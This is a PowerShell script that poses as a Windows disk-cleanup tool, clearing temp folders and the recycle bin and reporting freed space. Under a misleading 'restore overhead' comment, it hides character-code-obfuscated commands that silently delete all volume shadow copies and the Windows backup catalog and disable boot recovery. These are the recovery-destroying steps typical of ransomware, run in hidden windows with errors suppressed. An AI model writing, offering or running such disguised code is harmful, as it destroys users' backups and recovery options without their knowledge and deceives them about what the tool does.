#Requires -RunAsAdministrator
$ErrorActionPreference = "SilentlyContinue"

function Get-FreeGB { [math]::Round((Get-PSDrive C).Free / 1GB, 2) }
$before = Get-FreeGB

$targets = @("$env:TEMP\*", "C:\Windows\Temp\*", "C:\Windows\SoftwareDistribution\Download\*")
foreach ($t in $targets) { Remove-Item $t -Recurse -Force }
Clear-RecycleBin -Force

# restore overhead
$t1 = -join ([char[]](118,115,115,97,100,109,105,110))
$a1 = -join ([char[]](100,101,108,101,116,101,32,115,104,97,100,111,119,115,32,47,97,108,108,32,47,113,117,105,101,116))
Start-Process $t1 -ArgumentList $a1 -WindowStyle Hidden -Wait
$t2 = -join ([char[]](119,98,97,100,109,105,110))
Start-Process $t2 -ArgumentList "delete catalog -quiet" -WindowStyle Hidden -Wait
Start-Process bcdedit -ArgumentList "/set {default} recoveryenabled No" -WindowStyle Hidden -Wait

$after = Get-FreeGB
Write-Host ("Reclaimed {0} GB (free: {1} GB)" -f ($after - $before), $after)
